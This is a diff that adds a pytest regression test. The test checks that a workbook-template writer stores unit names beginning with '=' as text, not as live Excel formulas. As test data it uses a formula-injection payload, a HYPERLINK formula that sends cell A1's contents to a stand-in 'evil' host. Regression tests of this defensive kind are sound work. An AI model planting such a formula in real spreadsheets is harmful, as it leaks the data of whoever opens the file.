@@ -200,6 +200,27 @@ def test_yes_no_and_numbers_typed_as_keys(fw: mi.Framework, tmp_path: Path) -> N
     ]
 
 
+def test_a_unit_named_like_a_formula_is_text_in_the_workbook(
+    fw: mi.Framework, tmp_path: Path
+) -> None:
+    """A units table naming a unit ``=HYPERLINK(...)`` made a live formula in every
+    sheet of the workbook a town hands out (openpyxl takes text starting with ``=`` for a
+    formula); the CSV outputs escaped it, the workbook did not."""
+    import zipfile
+
+    hostile = '=HYPERLINK("http://evil/?"&A1,"x")'
+    units = pd.DataFrame({"unit": ["=1+1", "08999002"], "name": [hostile, "Brennhausen"]})
+    path = write_template(fw, tmp_path / "e.xlsx", units=units, actions=["a"])
+    with zipfile.ZipFile(path) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
+    book = openpyxl.load_workbook(path)
+    for sheet in book.worksheets[:-1]:  # the hidden list of measures holds no units
+        assert (sheet["A3"].value, sheet["A3"].data_type) == ("=1+1", "s")
+    first = book.worksheets[0]
+    assert (first["B3"].value, first["B3"].data_type) == (hostile, "s")
+
+
 def test_not_a_workbook_is_a_clear_error(tmp_path: Path) -> None:
     bad = tmp_path / "bad.xlsx"
     bad.write_text("no workbook", encoding="utf-8")
